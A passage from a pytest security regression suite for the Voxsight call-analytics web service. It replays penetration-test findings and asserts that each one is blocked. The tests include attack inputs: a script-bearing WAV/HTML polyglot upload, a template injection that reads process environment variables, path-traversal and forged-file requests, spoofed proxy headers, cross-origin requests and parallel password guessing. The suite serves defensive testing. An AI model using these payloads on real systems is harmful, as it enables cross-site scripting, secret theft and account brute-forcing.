"""The web tier as a bank's penetration tester tries it (issue 16): each finding reproduced over HTTP
against a real ``voxsight serve`` with PostgreSQL, Redis and a worker, and shown not to work.

One site serves the module; a test that needs settings of its own starts its own with
``served_site(env=...)``. Tests that sign in or lock accounts use names of their own.
"""

from __future__ import annotations

import json
import os
import shutil
import tempfile
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from datetime import datetime, timedelta, timezone
from pathlib import Path

import httpx
import pytest

from helpers import PASSWORD, SAMPLES, wait_done  # noqa: F401  (the sections below use them)

CALL = SAMPLES / "calls" / "billing_dispute.wav"


@pytest.fixture(scope="module")
def site(served_site):
    """A served site with a user and a token per role, and one analyzed call that raised alerts. It
    keeps original audio beside the redacted copy, so the admin's route to originals is tried too."""
    s = served_site(env={"VOXSIGHT_REDACTION_KEEP_ORIGINAL_AUDIO": "true"})
    job = upload(s, "analyst", CALL, agent="ann", queue="billing").json()
    s.job = wait_done(s, job["id"])
    s.recording_id = job["recording"]["id"]
    return s


def auth(s, role: str | None) -> dict[str, str]:
    return {"Authorization": f"Bearer {s.tokens[role]}"} if role else {}


def get(s, role, path, **kwargs) -> httpx.Response:
    headers = {**auth(s, role), **kwargs.pop("headers", {})}
    return httpx.get(s.url + "/api/v1" + path, headers=headers, timeout=60, **kwargs)


def upload(s, role, path: Path, content: bytes | None = None, filename: str | None = None, **fields) -> httpx.Response:
    body = content if content is not None else path.read_bytes()
    return httpx.post(s.url + "/api/v1/recordings", headers=auth(s, role), timeout=120,
                      files={"file": (filename or path.name, body, "application/octet-stream")}, data=fields)


def audit_entries(s, **query) -> list[dict]:
    """The audit log as the admin reads it, newest first."""
    return get(s, "admin", "/audit", params={"limit": 200, **query}).json()["entries"]


# -- 1. files served: the type we probed, nosniff, a sandboxing CSP, names we chose (findings 1, 6's file name)

def poc_wav(script: str) -> bytes:
    """A valid WAV (one second of a sample call) with an HTML page in an extra RIFF chunk before
    its samples: decoders skip the chunk, a browser sniffing for HTML finds the page."""
    import io
    import wave

    with wave.open(str(CALL)) as w:
        params, frames = w.getparams(), w.readframes(w.getframerate())
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setparams(params)
        w.writeframes(frames)
    riff = out.getvalue()
    page = f"<!doctype html><html><body><script>{script}</script></body></html>".encode()
    page += b"\0" * (len(page) % 2)
    chunk = b"html" + len(page).to_bytes(4, "little") + page
    at = riff.index(b"data")
    body = riff[12:at] + chunk + riff[at:]
    return b"RIFF" + (len(body) + 4).to_bytes(4, "little") + b"WAVE" + body


SCRIPT = "document.title = 'pwned'; fetch('/api/v1/auth/me').then(() => document.body.innerHTML = 'PWNED');"


def assert_served_as_a_file(response: httpx.Response) -> None:
    csp = response.headers["content-security-policy"]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in csp and "sandbox" in csp.split("; ") and "script-src" not in csp
    assert "text/html" not in response.headers["content-type"]


@pytest.fixture(scope="module")
def poc(site):
    """The penetration test's upload: a WAV with a script chunk, named poc.html."""
    job = upload(site, "analyst", CALL, content=poc_wav(SCRIPT), filename="poc.html")
    assert job.status_code in (200, 202), job.text
    wait_done(site, job.json()["id"])  # its redacted copy is written
    return job.json()["recording"]["id"]


def test_a_wav_named_poc_html_is_served_as_audio_never_as_a_page(site, poc):
    played = get(site, "viewer", f"/recordings/{poc}/audio")  # the redacted copy: Voxsight's own FLAC
    assert played.status_code == 200 and played.content[:4] == b"fLaC" and b"<script>" not in played.content
    assert played.headers["content-type"] == "audio/flac"
    assert played.headers["content-disposition"] == f'inline; filename="recording-{poc}.flac"'
    assert_served_as_a_file(played)
    original = get(site, "admin", f"/recordings/{poc}/audio/original")  # the bytes as sent
    assert original.status_code == 200 and original.content == poc_wav(SCRIPT)
    assert original.headers["content-type"] == "audio/wav"  # what its bytes are, not what its name says
    assert original.headers["content-disposition"] == f'inline; filename="recording-{poc}-original.wav"'
    assert_served_as_a_file(original)
    ranged = get(site, "admin", f"/recordings/{poc}/audio/original", headers={"Range": "bytes=10-99"})
    assert ranged.status_code == 206 and len(ranged.content) == 90 and ranged.headers["content-type"] == "audio/wav"
    assert_served_as_a_file(ranged)
    # Stored under a name Voxsight chose; the sender's name is only shown.
    stored = [p for p in site.storage.rglob("*") if p.is_file() and p.read_bytes() == poc_wav(SCRIPT)]
    assert [p.name for p in stored] == ["audio.wav"]
    assert get(site, "viewer", f"/recordings/{poc}").json()["recording"]["filename"] == "poc.html"


def test_a_file_stored_under_its_senders_name_before_is_served_by_its_content_too(site, poc):
    from sqlalchemy import text

    [stored] = [p for p in site.storage.rglob("audio.wav") if p.read_bytes() == poc_wav(SCRIPT)]
    old = stored.rename(stored.with_name("poc.html"))  # as stored before names were chosen
    try:
        with site.store.engine.begin() as db:
            db.execute(text("UPDATE jobs SET audio_path = :new WHERE audio_path = :old"),
                       {"new": str(old), "old": str(stored)})
        audio = get(site, "admin", f"/recordings/{poc}/audio/original")
        assert audio.status_code == 200 and audio.headers["content-type"] == "audio/wav"
        assert "html" not in audio.headers["content-disposition"]
        assert_served_as_a_file(audio)
    finally:
        with site.store.engine.begin() as db:
            db.execute(text("UPDATE jobs SET audio_path = :old WHERE audio_path = :new"),
                       {"new": str(old), "old": str(stored)})
        old.rename(stored)


def test_the_kept_original_is_for_admins_only_and_every_read_of_it_is_audited(site):
    path = f"/recordings/{site.recording_id}/audio/original"
    for role in ("viewer", "analyst", "supervisor"):
        refused = get(site, role, path)
        assert refused.status_code == 403 and "admin" in refused.json()["detail"], role
    name, admin = _user_with_token(site, "admin")
    whole = get(site, None, path, headers=admin)
    assert whole.status_code == 200 and whole.content == CALL.read_bytes()  # unredacted, as uploaded
    seek = get(site, None, path, headers={**admin, "Range": "bytes=100-"})
    assert seek.status_code == 206 and seek.content == CALL.read_bytes()[100:]
    reads = _entries(site, name, "listen_original")
    assert [(e.recording_id, e.detail) for e in reads] == [(site.recording_id, {"from_start": False}),
                                                          (site.recording_id, {})]  # a seek too, newest first
    assert _entries(site, name, "download") == []  # the redacted copy is what a download is


def test_an_export_of_a_call_with_a_chinese_name_is_an_attachment_named_in_utf8(site):
    other = SAMPLES / "calls" / "happy_upgrade.wav"
    job = upload(site, "analyst", other, filename="客户投诉 2026.wav").json()
    wait_done(site, job["id"])
    for format, media in (("json", "application/json"), ("csv", "text/csv")):
        export = get(site, "analyst", f"/recordings/{job['recording']['id']}/export", params={"format": format})
        assert export.status_code == 200 and export.headers["content-type"].startswith(media), export.text
        assert export.headers["content-disposition"] == (
            f"attachment; filename=\"____ 2026.{format}\"; "
            f"filename*=UTF-8''%E5%AE%A2%E6%88%B7%E6%8A%95%E8%AF%89%202026.{format}")
        assert_served_as_a_file(export)
    report = get(site, "analyst", "/reports", params={"start": "2000-01-01", "end": "2100-01-01", "format": "csv"})
    assert report.status_code == 200 and report.headers["content-disposition"].startswith("attachment; ")
    assert_served_as_a_file(report)


CHROMIUM, DRIVER = shutil.which("chromium") or shutil.which("chromium-browser"), shutil.which("chromedriver")
needs_browser = pytest.mark.skipif(not (CHROMIUM and DRIVER), reason="needs Debian's chromium and chromium-driver")


@pytest.fixture
def browser():
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for argument in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--mute-audio"):
        options.add_argument(argument)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(DRIVER), options=options)
    yield driver
    driver.quit()


def browser_sign_in(driver, s, name: str) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    driver.get(s.url + "/sign-in")
    driver.find_element(By.ID, "name").send_keys(name)
    driver.find_element(By.ID, "password").send_keys(PASSWORD)
    driver.find_element(By.ID, "sign-in").click()  # the form's POST: its Origin is the site's
    WebDriverWait(driver, 60).until(lambda d: d.find_elements(By.CSS_SELECTOR, "#vx-tabs button[role=tab]"))


@needs_browser
def test_an_uploaded_html_looking_file_never_runs_as_a_page_in_a_browser(site, poc, browser):
    browser_sign_in(browser, site, "admin")
    browser.get(f"{site.url}/api/v1/recordings/{poc}/audio/original")  # the admin opens the original's link
    time.sleep(2)  # long enough for the script's fetch to have answered, had it run
    assert browser.title != "pwned" and "PWNED" not in browser.page_source
    assert browser.execute_script("return document.contentType") == "audio/wav"
    assert browser.find_elements("css selector", "video, audio")  # the browser's own player, not a page




# -- 2. security headers, the API's documents, Origin checks, safe defaults (findings 10, 12, 15)

# Referrer-Policy same-origin, not no-referrer: under no-referrer a browser's own form posts say Origin: null.
HEADERS = {"x-frame-options": "DENY", "x-content-type-options": "nosniff", "referrer-policy": "same-origin"}


def assert_hardened(response: httpx.Response, console: bool = False) -> str:
    for name, value in HEADERS.items():
        assert response.headers.get(name) == value, (response.url, name, response.headers)
    assert "camera=()" in response.headers["permissions-policy"]
    csp = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and ("unsafe-eval" in csp) == console, csp  # Gradio's HTML needs it
    return csp


def signed_in_cookie(s, name: str) -> dict[str, str]:
    signed_in = httpx.post(s.url + "/api/v1/auth/sign-in", json={"name": name, "password": PASSWORD})
    assert signed_in.status_code == 200, signed_in.text
    return {"voxsight_session": signed_in.cookies["voxsight_session"]}


def test_every_response_carries_the_security_headers(site):
    cookies = signed_in_cookie(site, "viewer")
    api = assert_hardened(get(site, "viewer", "/auth/me"))
    assert api.startswith("default-src 'none'")  # JSON loads nothing
    assert assert_hardened(get(site, None, "/auth/me")).startswith("default-src 'none'")  # a 401 too
    assert_hardened(httpx.get(site.url + "/api/health"))
    sign_in = assert_hardened(httpx.get(site.url + "/sign-in"))
    assert "form-action 'self'" in sign_in and "script-src" not in sign_in  # no script at all
    console = httpx.get(site.url + "/console/", cookies=cookies)
    assert console.status_code == 200 and "<html" in console.text.lower()
    csp = assert_hardened(console, console=True)
    assert "default-src 'self'" in csp and "connect-src" not in csp  # nothing from outside the site
    assert_hardened(httpx.get(site.url + "/console/config", cookies=cookies), console=True)
    for path in ("/console/gradio_api/file=/etc/hostname", "/console/gradio_api/file/etc/hostname"):
        held = httpx.get(site.url + path, cookies=cookies)  # what Gradio serves of files is a file here too
        assert_served_as_a_file(held)


@needs_browser
def test_the_console_loads_and_works_under_its_policy_in_a_browser(site, browser):
    from selenium.webdriver.support.ui import WebDriverWait

    browser_sign_in(browser, site, "admin")
    tabs = [b.text for b in browser.find_elements("css selector", "#vx-tabs button[role=tab]") if b.text]
    assert "Calls" in tabs and "Admin" in tabs  # Gradio booted (its inline script ran) and its events answered
    WebDriverWait(browser, 30).until(lambda d: "admin" in d.find_element("id", "vx-user").text)  # gr.HTML renders
    refused = [e["message"] for e in browser.get_log("browser") if "Content Security Policy" in e["message"]]
    assert refused == []


def test_the_api_documents_need_sign_in_and_load_nothing_from_outside(site):
    import base64
    import hashlib
    import re

    for path in ("/api/docs", "/api/openapi.json"):
        assert httpx.get(site.url + path).status_code == 401
    spec = httpx.get(site.url + "/api/openapi.json", headers=auth(site, "viewer"))
    assert spec.status_code == 200 and "/api/v1/recordings" in spec.json()["paths"]
    page = httpx.get(site.url + "/api/docs", cookies=signed_in_cookie(site, "viewer"))
    assert page.status_code == 200 and "SwaggerUIBundle" in page.text
    assert "http:" not in page.text and "https:" not in page.text and "//" not in page.text.replace("://", "")
    for asset in re.findall(r'(?:src|href)="([^"]+)"', page.text):
        assert asset.startswith("/api/docs/assets/"), asset
        assert httpx.get(site.url + asset).status_code == 200
    csp = assert_hardened(page)
    inline = page.text.rsplit("<script>", 1)[1].split("</script>", 1)[0]
    digest = base64.b64encode(hashlib.sha256(inline.encode()).digest()).decode()
    assert f"script-src 'self' 'sha256-{digest}'" in csp and "unsafe-inline" not in csp.split("style-src")[0]
    assert httpx.get(site.url + "/api/docs/assets/index.html").status_code == 404  # the bundle's demo page


def test_a_cookie_authorised_change_from_another_origin_is_refused(site):
    cookies = signed_in_cookie(site, "admin")
    check = {"text": site.rules_file.read_text()}
    elsewhere = [{"Origin": "http://evil.example"}, {"Origin": "null"}, {"Origin": "null", "Sec-Fetch-Site": "cross-site"},
                 {"Origin": site.url.replace("127.0.0.1", "localhost")},  # another origin, the same machine
                 {"Sec-Fetch-Site": "same-site"}, {}]  # a sibling subdomain; a request that says nothing
    for headers in elsewhere:
        refused = httpx.post(site.url + "/api/v1/rules/check", json=check, cookies=cookies, headers=headers)
        assert refused.status_code == 403 and "own pages" in refused.json()["detail"], (headers, refused.text)
        gradio = httpx.post(site.url + "/console/gradio_api/queue/join", json={}, cookies=cookies, headers=headers)
        assert gradio.status_code == 403, headers
    refusals = [e for e in _entries(site, "admin", "denied") if "own pages" in e.detail["reason"]]
    assert sorted((e.detail["path"], e.door) for e in refusals) == sorted(
        [("/api/v1/rules/check", "api"), ("/console/gradio_api/queue/join", "console")] * len(elsewhere))
    for headers in ({"Origin": site.url}, {"Sec-Fetch-Site": "same-origin"},
                    {"Origin": "null", "Sec-Fetch-Site": "same-origin"}):
        assert httpx.post(site.url + "/api/v1/rules/check", json=check, cookies=cookies,
                          headers=headers).status_code == 200, headers
    # A bearer token is not a cookie: whoever holds it may call from anywhere.
    assert httpx.post(site.url + "/api/v1/rules/check", json=check, headers={
        **auth(site, "admin"), "Origin": "http://evil.example"}).status_code == 200
    out = httpx.post(site.url + "/api/v1/auth/sign-out", cookies=cookies, headers={"Origin": site.url})
    assert out.status_code == 204


def test_the_session_cookie_is_secure_unless_the_site_is_plain_http_on_loopback(site):
    body = {"name": "viewer", "password": PASSWORD}
    local = httpx.post(site.url + "/api/v1/auth/sign-in", json=body)
    assert local.status_code == 200 and "secure" not in local.headers["set-cookie"].lower()
    named = httpx.post(site.url + "/api/v1/auth/sign-in", json=body, headers={"Host": "voxsight.bank.example"})
    assert named.status_code == 200 and "; secure" in named.headers["set-cookie"].lower()


def test_health_tells_anyone_only_ok_or_unavailable(served_site):
    from sqlalchemy import create_engine, text

    s = served_site()
    database = s.store.engine.url.database
    admin = create_engine(s.store.engine.url.set(database="postgres"), isolation_level="AUTOCOMMIT")
    with admin.connect() as db:  # the site's database stops answering
        db.execute(text(f'ALTER DATABASE "{database}" ALLOW_CONNECTIONS false'))
        db.execute(text("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = :d"), {"d": database})
    try:
        health = httpx.get(s.url + "/api/health", timeout=30)
        assert health.status_code == 200
        assert health.json() == {"status": "degraded", "database": "unavailable", "redis": "ok"}
        log = s.log.read_text()
        assert "health: the database does not answer" in log and database in log  # the reason, in the log
    finally:
        with admin.connect() as db:
            db.execute(text(f'ALTER DATABASE "{database}" ALLOW_CONNECTIONS true'))
        admin.dispose()
    s.stop()




# -- 3. the console: only what the browser uploaded, its own origin, no files left behind (findings 2, 11, 15)

@contextmanager
def console(s, role: str | None) -> Iterator[httpx.Client]:
    """A browser's session on the console (anonymous when ``role`` is None); its requests say they
    come from the site's own pages, as a browser's do."""
    with httpx.Client(base_url=s.url, timeout=120, headers={"Origin": s.url}) as client:
        if role:
            signed_in = client.post("/sign-in", data={"name": role, "password": PASSWORD})
            assert signed_in.status_code == 303 and "voxsight_session" in client.cookies, signed_in.text
        yield client


def console_event(client: httpx.Client, name: str, data: list) -> tuple[int, dict | str]:
    """Run the console's event ``name`` as the browser does (join Gradio's queue, read its stream):
    (the join's status, the event's last message, or the refusal's text)."""
    [fn] = [i for i, d in enumerate(client.get("/console/config").json()["dependencies"]) if d["api_name"] == name]
    session = uuid.uuid4().hex[:10]
    joined = client.post("/console/gradio_api/queue/join",
                         json={"data": data, "fn_index": fn, "session_hash": session, "event_data": None})
    if joined.status_code != 200:
        return joined.status_code, joined.text
    with client.stream("GET", "/console/gradio_api/queue/data", params={"session_hash": session}) as stream:
        for line in stream.iter_lines():
            message = json.loads(line[5:]) if line.startswith("data:") else {}
            if message.get("msg") == "process_completed":
                return joined.status_code, message
    raise AssertionError("the event's stream ended before it completed")


def analyze(client: httpx.Client, file: dict) -> tuple[int, dict | str]:
    """The Analyze page's submit with one file object (and no call details)."""
    return console_event(client, "submit", [[file], "", "", "", "", "normal", []])


def gradio_copies(s, content: bytes) -> list[Path]:
    """Files holding ``content`` in the site's Gradio folder or in Gradio's default one."""
    folders = [s.data_dir / "console-files", Path(tempfile.gettempdir()) / "gradio"]
    return [p for f in folders if f.is_dir() for p in f.rglob("*") if p.is_file() and p.read_bytes() == content]


def test_a_console_event_takes_no_file_from_the_servers_disk_and_fetches_no_url(site, tmp_path):
    server_file = tmp_path / f"server-only-{uuid.uuid4().hex[:8]}.wav"  # a real call: it would be accepted
    server_file.write_bytes(CALL.read_bytes()[:-2] + uuid.uuid4().bytes[:2])  # bytes no other test has
    forged = [{"path": str(server_file)}, {"path": str(server_file), "meta": {"_type": "gradio.FileData"}},
              {"path": f"{site.data_dir}/console-files/{os.path.relpath(server_file, site.data_dir / 'console-files')}",
               "meta": {"_type": "gradio.FileData"}},
              {"path": "https://calls.example/lost.wav", "meta": {"_type": "gradio.FileData"}},
              {"path": f"{site.url}/api/health", "meta": {"_type": "gradio.FileData"}}]
    before = get(site, "viewer", "/recordings").json()["total"]
    for role in ("analyst", "viewer"):
        with console(site, role) as browser:
            for file in forged:
                status, answer = analyze(browser, file)
                assert status == 403 and "only files uploaded" in answer, (role, file, answer)
        denied = [e for e in _entries(site, role, "denied") if "only files uploaded" in e.detail["reason"]]
        assert len(denied) == len(forged) and all(e.door == "console" for e in denied), role  # audited, by name
    assert get(site, "viewer", "/recordings").json()["total"] == before
    assert server_file.exists() and gradio_copies(site, server_file.read_bytes()) == []
    with console(site, "analyst") as browser:  # nor does Gradio's file route fetch a URL for anyone
        assert browser.get(f"/console/gradio_api/file={site.url}/api/health").status_code == 403


def test_only_signed_in_analysts_put_files_in_the_consoles_folder(site):
    content = b"RIFF" + uuid.uuid4().bytes
    for role, status in ((None, 401), ("viewer", 403)):
        with console(site, role) as browser:
            refused = browser.post("/console/gradio_api/upload", files={"files": ("x.wav", content)})
            assert refused.status_code == status, refused.text
            elsewhere = browser.post("/console/gradio_api/process_recording", files={"video": ("x.mp4", content)})
            assert elsewhere.status_code in (401, 403)
    assert gradio_copies(site, content) == []


def test_another_origin_gets_no_cors_answer_from_the_console(site):
    with console(site, "analyst") as browser:
        for origin in ("http://localhost:9999", "http://127.0.0.1:1", "https://attacker.example", "null"):
            preflight = browser.options("/console/gradio_api/queue/join", headers={
                "Origin": origin, "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "content-type"})
            assert "access-control-allow-origin" not in preflight.headers, origin
            read = browser.get("/console/config", headers={"Origin": origin})
            assert read.status_code == 200 and "access-control-allow-origin" not in read.headers
            assert "access-control-allow-credentials" not in read.headers


def test_a_file_the_browser_uploaded_still_becomes_a_job_and_its_copy_is_removed(site):
    content = CALL.read_bytes()[:-2] + uuid.uuid4().bytes[:2]
    with console(site, "analyst") as browser:
        uploaded = browser.post("/console/gradio_api/upload", files={"files": ("console_call.wav", content)})
        assert uploaded.status_code == 200, uploaded.text
        [path] = uploaded.json()
        assert Path(path).is_relative_to(site.data_dir / "console-files") and gradio_copies(site, content)
        status, done = analyze(browser, {"path": path, "orig_name": "console_call.wav",
                                         "meta": {"_type": "gradio.FileData"}})
    assert status == 200 and done["success"], done
    [job_id] = [row[0] for row in done["output"]["data"][2]["data"] if row[1] == "console_call.wav"]
    assert wait_done(site, job_id)["status"] == "done"
    assert gradio_copies(site, content) == []


def test_a_report_export_is_served_from_the_sites_console_folder_not_tmp(site):
    with console(site, "analyst") as browser:
        status, done = console_event(browser, "export", ["2020-01-01", "2099-12-31", "queue"])
        assert status == 200 and done["success"], done
        exported = done["output"]["data"][0]["value"]
        assert Path(exported["path"]).is_relative_to(site.data_dir / "console-files" / "exports")
        download = browser.get(exported["url"].removeprefix(site.url))
    assert download.status_code == 200 and download.text.startswith("queue,calls")


# -- 4. alert message templates (finding 3)


def test_a_rule_message_that_reads_the_process_is_refused_and_the_rules_in_force_stay(site):
    before_text = get(site, "supervisor", "/rules/text").text
    before = get(site, "supervisor", "/rules").json()
    leaking = before_text + (
        "  - id: leak\n    severity: low\n"
        "    message: '{meta.__class__.__init__.__globals__[os].environ}'\n"
        "    when: {silence: {min_s: 1}}\n")

    checked = httpx.post(site.url + "/api/v1/rules/check", headers=auth(site, "admin"), json={"text": leaking},
                         timeout=60).json()
    refused = httpx.put(site.url + "/api/v1/rules", headers=auth(site, "admin"), json={"text": leaking}, timeout=60)

    assert checked["ok"] is False and "attribute access is not allowed" in checked["error"]
    assert refused.status_code == 422, refused.text
    assert "message template field {meta.__class__" in refused.json()["detail"]
    assert "attribute access is not allowed" in refused.json()["detail"]
    assert get(site, "supervisor", "/rules/text").text == before_text
    assert get(site, "supervisor", "/rules").json() == before and before["ok"] is True


# -- 5. sign-in limits, proxies, sessions and tokens (findings 4, 9, 13, 15)

@pytest.fixture(scope="module")
def proxied(served_site):
    """An embedded site (SQLite) behind a reverse proxy on 127.0.0.1, with short waits: 2 s after
    the free sign-in attempts, sessions that end after 3 s unused."""
    return served_site(embedded=True, env={"VOXSIGHT_WEB_TRUSTED_PROXIES": "127.0.0.1/32",
                                           "VOXSIGHT_WEB_SIGN_IN_BACKOFF_S": "2",
                                           "VOXSIGHT_WEB_SESSION_IDLE_MINUTES": "0.05"})


def _user(s, role: str = "analyst") -> str:
    name = f"acct-{uuid.uuid4().hex[:8]}"
    s.store.accounts.add_user(name, role, PASSWORD)
    return name


def _sign_in(s, name: str, password: str, client: httpx.Client | None = None, **headers) -> httpx.Response:
    return (client or httpx).post(s.url + "/api/v1/auth/sign-in", json={"name": name, "password": password},
                                  headers=headers, timeout=60)


def _me(s, client: httpx.Client | None = None, **headers) -> int:
    return (client or httpx).get(s.url + "/api/v1/auth/me", headers=headers, timeout=60).status_code


def _fifteen_parallel_guesses(s, backoff_s: float, **headers) -> None:
    name = _user(s)
    with ThreadPoolExecutor(15) as pool:
        codes = list(pool.map(lambda _: _sign_in(s, name, "wrong guess", **headers).status_code, range(15)))
    last_failure = time.monotonic()
    assert sorted(codes) == [401] * 5 + [429] * 10
    actions = [e.action for e in s.store.accounts.audit_log(limit=50, actor=name).entries]
    assert actions.count("sign_in_failed") == 5 and actions.count("sign_in_refused") == 10
    right = _sign_in(s, name, PASSWORD, **headers).status_code
    if time.monotonic() - last_failure < backoff_s:  # on a loaded machine the wait may be over already
        assert right == 429  # a right guess now would not be checked


def test_parallel_wrong_passwords_are_checked_no_more_than_the_limit_on_postgresql(site):
    _fifteen_parallel_guesses(site, 5.0)


def test_parallel_wrong_passwords_are_checked_no_more_than_the_limit_on_sqlite(proxied):
    _fifteen_parallel_guesses(proxied, 2.0, **{"X-Forwarded-For": "10.5.0.1"})


def test_failed_sign_ins_back_off_and_do_not_lock_the_owner_out(proxied):
    name = _user(proxied)
    guesser, owner = {"X-Forwarded-For": "10.5.0.2"}, {"X-Forwarded-For": "10.5.0.3"}
    assert [_sign_in(proxied, name, "wrong guess", **guesser).status_code for _ in range(5)] == [401] * 5
    waiting = _sign_in(proxied, name, PASSWORD, **guesser)
    assert waiting.status_code == 429 and waiting.headers["retry-after"] == "2"
    assert _sign_in(proxied, name, PASSWORD, **owner).status_code == 200  # the owner, elsewhere, is not held up
    time.sleep(2.2)
    assert _sign_in(proxied, name, PASSWORD, **guesser).status_code == 200  # the wait is over


def test_x_forwarded_for_is_believed_from_a_trusted_proxy_only(site, proxied):
    spoofed = {"X-Forwarded-For": "6.6.6.6, 10.5.0.4"}  # a client wrote 6.6.6.6; the proxy appended 10.5.0.4
    for s, door in ((proxied, "api"), (proxied, "console"), (site, "api")):
        name = _user(s)
        if door == "api":
            assert _sign_in(s, name, PASSWORD, **spoofed).status_code == 200
        else:
            signed_in = httpx.post(s.url + "/sign-in", data={"name": name, "password": PASSWORD},
                                   headers=spoofed, timeout=60)
            assert signed_in.status_code == 303
        [entry] = s.store.accounts.audit_log(limit=5, actor=name).entries
        assert (entry.action, entry.door) == ("sign_in", door)
        assert entry.source == ("10.5.0.4" if s is proxied else "127.0.0.1")


def test_a_password_reset_ends_every_session_and_token_of_the_user(site):
    name = _user(site)
    with httpx.Client() as browser:
        assert _sign_in(site, name, PASSWORD, browser).status_code == 200
        token = httpx.post(site.url + "/api/v1/tokens", headers=auth(site, "admin"),
                           json={"user": name, "name": "crm"}, timeout=60).json()["token"]
        bearer = {"Authorization": f"Bearer {token}"}
        assert _me(site, browser) == 200 and _me(site, **bearer) == 200
        reset = httpx.post(f"{site.url}/api/v1/users/{name}/password", headers=auth(site, "admin"),
                           json={"password": "a brand new passphrase"}, timeout=60)
        assert reset.status_code == 204
        assert _me(site, browser) == 401 and _me(site, **bearer) == 401
    assert _sign_in(site, name, PASSWORD).status_code == 401
    assert _sign_in(site, name, "a brand new passphrase").status_code == 200
    [entry] = [e for e in site.store.accounts.audit_log(limit=200, action="user_password").entries
               if e.detail["user"] == name]
    assert entry.detail["ended"] == 2 and entry.actor == "admin"


def test_an_admin_signs_a_user_out_everywhere_and_their_tokens_stay(site):
    name = _user(site)
    browsers = [httpx.Client(), httpx.Client()]
    for browser in browsers:
        assert _sign_in(site, name, PASSWORD, browser).status_code == 200
    token, _ = site.store.accounts.create_token(name, "crm")
    assert httpx.post(f"{site.url}/api/v1/users/{name}/sign-out", headers=auth(site, "analyst"),
                      timeout=60).status_code == 403
    assert httpx.post(f"{site.url}/api/v1/users/{name}/sign-out", headers=auth(site, "admin"),
                      timeout=60).status_code == 204
    assert [_me(site, browser) for browser in browsers] == [401, 401]
    assert _me(site, Authorization=f"Bearer {token}") == 200
    [entry] = [e for e in site.store.accounts.audit_log(limit=200, action="sign_out_everywhere").entries
               if e.detail["user"] == name]
    assert entry.detail["ended"] == 2 and entry.door == "api"
    for browser in browsers:
        browser.close()


def test_a_session_ends_when_unused_for_the_idle_limit(proxied):
    name = _user(proxied)
    with httpx.Client() as browser:
        assert _sign_in(proxied, name, PASSWORD, browser).status_code == 200
        for _ in range(3):  # used every 1.5 s: alive past the 3 s idle limit
            time.sleep(1.5)
            assert _me(proxied, browser) == 200
        time.sleep(3.5)
        assert _me(proxied, browser) == 401


def test_tokens_expire_by_default_and_never_only_when_asked(site):
    def create(**body):
        return httpx.post(site.url + "/api/v1/tokens", headers=auth(site, "admin"), timeout=60,
                          json={"user": "viewer", "name": "ticketing", **body})

    default = datetime.fromisoformat(create().json()["info"]["expires_at"])
    assert abs(default - datetime.now(timezone.utc) - timedelta(days=90)) < timedelta(minutes=5)
    assert create(never_expires=True).json()["info"]["expires_at"] is None
    assert create(never_expires=True, expires_in_days=5).status_code == 422



# -- 6. re-uploads, the audit of every read and refusal, CSV cells, alert visibility (findings 5, 6, 7, 8)

def _entries(s, actor: str, action: str) -> list:
    """The audit log's entries of ``actor`` doing ``action``, newest first, as the store keeps them."""
    return s.store.accounts.audit_log(200, actor=actor, action=action).entries


def _user_with_token(s, role: str) -> tuple[str, dict[str, str]]:
    """A user of ``role`` of this test's own (no audit entries yet), and its bearer header."""
    import uuid

    name = f"{role}-{uuid.uuid4().hex[:8]}"
    s.store.accounts.add_user(name, role, PASSWORD)
    token, _ = s.store.accounts.create_token(name, "security section 6")
    return name, {"Authorization": f"Bearer {token}"}


def _patch(s, role, recording_id: int, **changes) -> httpx.Response:
    return httpx.patch(f"{s.url}/api/v1/recordings/{recording_id}", headers=auth(s, role), json=changes, timeout=60)


def _report_groups(s, by: str) -> set[str]:
    """The groups of the report CSV by ``by`` (other sections' calls have no agent or queue: "(none)")."""
    return {row[0] for row in _report_csv(s, by)[1:]} - {"(none)"}


def _report_csv(s, by: str) -> list[list[str]]:
    import csv
    import io
    from datetime import date

    today = date.today().isoformat()
    got = get(s, "analyst", "/reports", params={"start": "2000-01-01", "end": today, "by": by, "format": "csv"})
    assert got.status_code == 200, got.text
    return list(csv.reader(io.StringIO(got.text)))


def test_the_same_bytes_uploaded_again_leave_the_stored_call_as_it_was_and_say_so(site):
    again = upload(site, "analyst", CALL, agent="mallory", queue="fraud", call_time="2001-01-01T00:00:00")
    assert again.status_code == 200 and again.json()["recording"]["id"] == site.recording_id  # the analysis reused
    detail = get(site, "viewer", f"/recordings/{site.recording_id}").json()
    assert detail["recording"]["call_metadata"] == {"agent": "ann", "queue": "billing"}
    assert _report_groups(site, "agent") == {"ann"}  # the reports agree with the list
    [entry] = [e for e in _entries(site, "analyst", "upload") if e.detail["job_id"] == again.json()["id"]]
    assert entry.detail["reused_recording"] == site.recording_id and entry.detail["metadata_applied"] is False
    assert entry.detail["metadata_not_applied"] == {"agent": "mallory", "queue": "fraud",
                                                    "call_time": "2001-01-01T00:00:00"}


def test_a_metadata_change_is_its_own_audited_action_and_no_page_shows_the_old_values(site):
    path = f"/recordings/{site.recording_id}"
    assert get(site, "viewer", path).json()["recording"]["call_metadata"]["queue"] == "billing"  # cached now
    assert get(site, "viewer", path).headers["x-cache"] == "hit"
    assert _report_groups(site, "queue") == {"billing"}
    denied = _patch(site, "viewer", site.recording_id, queue="retention")
    assert denied.status_code == 403
    assert _patch(site, "analyst", site.recording_id, colour="red").status_code == 422  # METADATA_FIELDS only
    try:
        changed = _patch(site, "analyst", site.recording_id, queue="retention", reference="T-1")
        assert changed.status_code == 200, changed.text
        assert changed.json()["call_metadata"] == {"agent": "ann", "queue": "retention", "reference": "T-1"}
        assert get(site, "viewer", path).json()["recording"]["call_metadata"]["queue"] == "retention"
        assert _report_groups(site, "queue") == {"retention"}
        listed = get(site, "viewer", "/recordings", params={"queue": "retention"}).json()["items"]
        assert [r["id"] for r in listed] == [site.recording_id]
